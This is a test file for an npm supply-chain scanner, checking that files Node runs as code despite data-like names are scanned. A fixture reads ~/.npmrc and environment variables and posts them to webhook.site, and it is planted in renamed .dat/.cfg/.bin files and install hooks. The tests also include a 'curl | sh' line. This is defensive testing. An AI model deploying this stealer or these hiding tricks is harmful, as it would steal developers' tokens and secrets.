import { describe, expect, it } from 'vitest';
import { CODE_CHECKS } from '../../src/checks/code-checks.js';
import { runChecks } from '../../src/checks/run.js';
import { atLeast } from '../../src/severity.js';
import { contextOf, type PackageSpec } from '../helpers/package-builder.js';

/** Reads ~/.npmrc and the environment and posts them: what each renamed file below carries. */
const STEALER = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
  "fetch('https://webhook.site/6f1c2a', { method: 'POST', body: token + JSON.stringify(process.env) });",
  '',
].join('\n');

function findings(spec: PackageSpec) {
  const ctx = contextOf(spec);
  return { ctx, found: runChecks(ctx, CODE_CHECKS, []) };
}

function readAsCode(spec: PackageSpec): string[] {
  return contextOf(spec)
    .code.js.map((file) => file.path)
    .sort();
}

describe('files Node runs as JavaScript whatever their name', () => {
  it.each<[string, PackageSpec, string]>([
    [
      "require('./lib/palette.dat') (CommonJS reads an unknown extension as .js)",
      {
        files: { 'index.js': "module.exports = require('./lib/palette.dat');\n", 'lib/palette.dat': STEALER },
      },
      'lib/palette.dat',
    ],
    [
      "require(path.join(__dirname, 'lib', 'palette.dat'))",
      {
        files: {
          'index.js': "const path = require('path');\nrequire(path.join(__dirname, 'lib', 'palette.dat'));\n",
          'lib/palette.dat': STEALER,
        },
      },
      'lib/palette.dat',
    ],
    [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the code under test
      'require(`${__dirname}/../shared/theme.cfg`) from a subfolder',
      {
        files: {
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the code under test
          'lib/index.js': 'require(`${__dirname}/../shared/theme.cfg`);\n',
          'shared/theme.cfg': STEALER,
        },
        manifest: { main: 'lib/index.js' },
      },
      'shared/theme.cfg',
    ],
    [
      'a required file with no extension and no shebang',
      { files: { 'index.js': "require('./lib/loader');\n", 'lib/loader': STEALER } },
      'lib/loader',
    ],
    [
      'a chain: a renamed file requiring another from its own folder',
      {
        files: {
          'index.js': "require('./lib/a.cfg');\n",
          'lib/a.cfg': "require('../assets/b.txt');\n",
          'assets/b.txt': STEALER,
        },
      },
      'assets/b.txt',
    ],
    [
      'the manifest main, named with a data extension',
      { manifest: { main: 'core.bin' }, files: { 'core.bin': STEALER } },
      'core.bin',
    ],
    [
      'a bin target without a JavaScript extension',
      {
        manifest: { bin: { colors: './cli/run.cfg' } },
        files: { 'cli/run.cfg': `#!/usr/bin/env node\n${STEALER}` },
      },
      'cli/run.cfg',
    ],
    [
      "the root export's require condition",
      {
        manifest: {
          exports: {
            '.': { import: './index.mjs', require: './lib/index.bin' },
            './theme.css': './theme.css',
          },
        },
        files: { 'index.mjs': 'export default 1;\n', 'lib/index.bin': STEALER, 'theme.css': 'a{color:red}' },
      },
      'lib/index.bin',
    ],
    [
      "child_process.fork(path.join(__dirname, 'jobs', 'sync.dat'))",
      {
        files: {
          'index.js':
            "const path = require('path');\nrequire('child_process').fork(path.join(__dirname, 'jobs', 'sync.dat'));\n",
          'jobs/sync.dat': STEALER,
        },
      },
      'jobs/sync.dat',
    ],
    [
      "new Worker(__dirname + '/pool/task.cfg')",
      {
        files: {
          'index.js':
            "const { Worker } = require('worker_threads');\nnew Worker(__dirname + '/pool/task.cfg');\n",
          'pool/task.cfg': STEALER,
        },
      },
      'pool/task.cfg',
    ],
    [
      "spawn(process.execPath, ['--no-warnings', path.join(__dirname, 'daemon.log'), '--port', '9000'])",
      {
        files: {
          'index.js':
            "const path = require('path');\nrequire('child_process').spawn(process.execPath, ['--no-warnings', path.join(__dirname, 'daemon.log'), '--port', '9000'], { detached: true }).unref();\n",
          'daemon.log': STEALER,
        },
      },
      'daemon.log',
    ],
    [
      "execSync('node ' + __dirname + '/setup.tmp')",
      {
        files: {
          'lib/index.js': "require('child_process').execSync('node ' + __dirname + '/setup.tmp');\n",
          'lib/setup.tmp': STEALER,
        },
        manifest: { main: 'lib/index.js' },
      },
      'lib/setup.tmp',
    ],
    [
      "eval(fs.readFileSync(__dirname + '/data.bin', 'utf8')): text read from a file and run",
      {
        files: {
          'index.js':
            "const fs = require('fs');\nconst src = fs.readFileSync(__dirname + '/data.bin', 'utf8');\neval(src);\n",
          'data.bin': STEALER,
        },
      },
      'data.bin',
    ],
    [
      'inline install code loading a file of the package: node -e "require(\'./lib/boot.dat\')"',
      {
        manifest: { scripts: { postinstall: 'node -e "require(\'./lib/boot.dat\')"' } },
        files: { 'index.js': 'module.exports = 1;\n', 'lib/boot.dat': STEALER },
      },
      'lib/boot.dat',
    ],
    [
      'a file a script started by the hook hands to node (postinstall: yarn setup)',
      {
        manifest: { scripts: { postinstall: 'yarn setup', setup: 'node lib/setup.dat' } },
        files: { 'index.js': 'module.exports = 1;\n', 'lib/setup.dat': STEALER },
      },
      'lib/setup.dat',
    ],
    [
      'a file an install script hands to node',
      {
        manifest: { scripts: { postinstall: 'node --no-warnings ./scripts/setup.cfg || true' } },
        files: { 'index.js': 'module.exports = 1;\n', 'scripts/setup.cfg': STEALER },
      },
      'scripts/setup.cfg',
    ],
  ])('%s is read, and its theft found there', (_label, spec, carrier) => {
    const { found } = findings(spec);
    const serious = found.filter((finding) => atLeast(finding.severity, 'high'));
    expect(serious.map((finding) => finding.location?.file)).toContain(carrier);
  });

  it('leaves alone what Node does not run as code: styles imported for a bundler, JSON, addons, binaries', () => {
    const spec: PackageSpec = {
      manifest: { main: 'dist/index.cjs', module: 'dist/index.mjs' },
      files: {
        'dist/index.mjs': "import './styles.css';\nimport icons from './icons.svg';\nexport { icons };\n",
        'dist/index.cjs': [
          "const data = require('./data.json');",
          "const addon = require('./build/Release/addon.node');",
          "const missing = require('./not-shipped.dat');",
          'module.exports = { data, addon, missing };',
          '',
        ].join('\n'),
        'dist/styles.css': '.icon:before{content:"\\e900"}',
        'dist/icons.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>',
        'dist/data.json': '{"curl": "https://example.com"}',
        'dist/build/Release/addon.node': '\u007fELF\u0002\u0001\u0001',
      },
    };
    expect(readAsCode(spec)).toEqual(['dist/index.cjs', 'dist/index.mjs']);
  });

  it("the files a started program is given, or a shell command's other files, are not read as code", () => {
    const spec: PackageSpec = {
      manifest: { exports: { '.': './index.js', './styles.css': './dist/styles.css' } },
      files: {
        'index.js': [
          "const cp = require('child_process');",
          "cp.execSync('node scripts/build.js && cp README.md dist/');",
          "cp.spawn(process.execPath, [require.resolve('./cli.js'), 'render', 'docs/guide.md']);",
          "cp.fork('./cli.js', ['--input', 'notes.txt']);",
          '',
        ].join('\n'),
        'cli.js': 'module.exports = 1;\n',
        'scripts/build.js': 'module.exports = 2;\n',
        'README.md': '# Install\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n',
        'docs/guide.md': 'Run `node cli.js render`.\n',
        'notes.txt': 'export TOKEN=$NPM_TOKEN\n',
        'dist/styles.css': 'a{color:red}',
      },
    };
    expect(readAsCode(spec)).toEqual(['cli.js', 'index.js', 'scripts/build.js']);
  });

  it('type declarations an export names are not code (a types-only package uses nothing)', () => {
    const spec: PackageSpec = {
      manifest: {
        types: 'index.d.ts',
        exports: {
          '.': { types: { import: './index.d.mts', default: './index.d.ts' }, default: './index.d.cts' },
        },
      },
      files: {
        'index.d.ts': "import { Agent } from 'http';\nexport declare function connect(agent: Agent): void;\n",
        'index.d.mts': "export * from './index.js';\n",
        'index.d.cts': "import { Agent } from 'https';\nexport declare const agent: Agent;\n",
      },
    };
    expect(readAsCode(spec)).toEqual([]);
    expect(findings(spec).ctx.code.js).toEqual([]);
  });

  it('a template engine compiling what it reads is not made to read its data files as code', () => {
    const spec: PackageSpec = {
      files: {
        'index.js': [
          "const fs = require('fs');",
          "const defaults = JSON.parse(fs.readFileSync(__dirname + '/defaults.json', 'utf8'));",
          "const banner = fs.readFileSync(__dirname + '/banner.txt', 'utf8');",
          'exports.render = (file, data) => new Function("data", "return `" + fs.readFileSync(file, "utf8") + "`")({ ...defaults, ...data });',
          '',
        ].join('\n'),
        'defaults.json': '{"title": "Untitled"}',
        'banner.txt': 'Made with tinytpl',
      },
    };
    // The engine runs text read from a file, so the files it names are read as code, and say nothing.
    expect(readAsCode(spec)).toEqual(['banner.txt', 'index.js']);
    expect(findings(spec).found.filter((finding) => atLeast(finding.severity, 'high'))).toEqual([]);
  });

  it('a bin whose shebang names another interpreter is not read as JavaScript', () => {
    const spec: PackageSpec = {
      manifest: { bin: { 'kit-setup': 'bin/setup.sh' } },
      files: {
        'index.js': 'module.exports = 1;\n',
        'bin/setup.sh': '#!/bin/sh\nset -e\necho "configuring $HOME/.kitrc"\n',
      },
    };
    expect(readAsCode(spec)).toEqual(['index.js']);
    expect(findings(spec).found.filter((finding) => atLeast(finding.severity, 'medium'))).toEqual([]);
  });

  it('a CommonJS build that requires its stylesheet (bundler-only output) raises nothing from the CSS read as code', () => {
    const css = [
      '@font-face{font-family:"kit-icons";src:url(./fonts/kit.woff2) format("woff2")}',
      '.kit-icon-add:before{content:"\\e900"}.kit-icon-close:before{content:"\\e901"}',
      '.kit-btn{background:url(https://cdn.example.com/kit/bg.png);color:#333}',
    ].join('');
    const spec: PackageSpec = {
      manifest: { main: 'lib/index.js' },
      files: {
        'lib/index.js': "require('./index.css');\nexports.Button = function Button() { return null; };\n",
        'lib/index.css': css.repeat(40),
      },
    };
    expect(readAsCode(spec)).toEqual(['lib/index.css', 'lib/index.js']);
    expect(findings(spec).found.filter((finding) => atLeast(finding.severity, 'low'))).toEqual([]);
  });
});
